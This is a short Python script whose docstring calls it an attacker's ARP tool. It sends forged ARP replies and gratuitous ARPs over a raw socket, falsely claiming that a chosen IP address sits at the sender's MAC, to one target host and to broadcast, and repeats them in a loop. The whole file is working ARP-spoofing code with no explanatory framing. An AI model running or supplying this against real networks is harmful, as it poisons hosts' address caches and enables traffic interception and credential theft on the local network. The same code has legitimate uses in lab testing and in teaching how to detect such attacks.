#!/usr/bin/env python3
"""An attacker's ARP: sends forged ARP replies and gratuitous ARPs on IFACE claiming that CLAIMED_IP
is at SENDER_MAC, with SENDER_MAC as the frame's source (so only the ARP payload lies), to TARGET_MAC
at TARGET_IP and to broadcast. Usage: arp-forge.py IFACE SENDER_MAC CLAIMED_IP TARGET_MAC TARGET_IP [COUNT]"""
import socket
import struct
import sys
import time


def mac(text):
    return bytes(int(part, 16) for part in text.split(":"))


def arp(op, sender_mac, sender_ip, target_mac, target_ip):
    return struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, op, sender_mac, socket.inet_aton(sender_ip),
                       target_mac, socket.inet_aton(target_ip))


def main():
    iface, sender, claimed, target, target_ip = sys.argv[1:6]
    count = int(sys.argv[6]) if len(sys.argv) > 6 else 20
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((iface, 0))
    broadcast = b"\xff" * 6
    frames = [
        mac(target) + mac(sender) + b"\x08\x06" + arp(2, mac(sender), claimed, mac(target), target_ip),
        broadcast + mac(sender) + b"\x08\x06" + arp(2, mac(sender), claimed, broadcast, claimed),
        broadcast + mac(sender) + b"\x08\x06" + arp(1, mac(sender), claimed, b"\x00" * 6, claimed),
    ]
    for _ in range(count):
        for frame in frames:
            raw.send(frame)
        time.sleep(0.05)


if __name__ == "__main__":
    main()
